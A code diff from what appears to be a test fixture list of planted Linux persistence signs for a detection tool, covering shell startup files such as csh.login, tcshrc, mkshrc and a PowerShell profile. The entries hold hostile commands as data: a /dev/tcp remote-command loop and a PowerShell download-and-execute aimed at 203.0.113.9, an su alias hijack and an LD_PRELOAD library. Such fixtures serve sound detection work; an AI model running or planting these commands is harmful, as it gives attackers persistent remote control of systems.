@@ -21,10 +21,10 @@ export const fifthEnvironment: readonly Sign[] = [
 	profile('tcp-source', 'commands of a connection', 'exec 9<>/dev/tcp/203.0.113.9/80; (while read -r l <&9; do eval "$l"; done) &'),
 	file('zlogout', 'environment', 'run when each zsh ends', '/etc/zsh/zlogout', `${fetched} &\n`),
 	file('tcshrc', 'environment', 'run by each tcsh of root', '/root/.tcshrc', `alias su '/usr/lib/.su/su'\nsh -c "${fetched}" &\n`),
-	{ ...file('csh-login', 'environment', 'a library in each csh', '/etc/csh.login', 'setenv LD_PRELOAD /usr/lib/libshell.so\n'), plant: tree => {
-		tree.write('/etc/csh.login', 'setenv LD_PRELOAD /usr/lib/libshell.so\n');
-		tree.write('/usr/lib/libshell.so', elf('shell', 'library'));
-	}, also: ['/usr/lib/libshell.so'] },
+	{ ...file('csh-login', 'environment', 'a library in each csh', '/etc/csh.login', 'setenv LD_PRELOAD /var/lib/misc/libshell.so\n'), plant: tree => {
+		tree.write('/etc/csh.login', 'setenv LD_PRELOAD /var/lib/misc/libshell.so\n');
+		tree.write('/var/lib/misc/libshell.so', elf('shell', 'library'));
+	}, also: ['/var/lib/misc/libshell.so'] },
 	file('mkshrc', 'environment', 'run by each mksh of one user', '/home/deploy/.mkshrc', `${reverse} &\n`, { owner: 'deploy' }),
 	file('powershell', 'environment', 'run by each PowerShell', '/root/.config/powershell/profile.ps1', 'Invoke-Expression (Invoke-WebRequest http://203.0.113.9/k).Content\n'),
 	file('tmux-xdg', 'environment', 'run by each tmux, in the newer place', '/home/ada/.config/tmux/tmux.conf', `run-shell -b '${fetched}'\n`, ada),
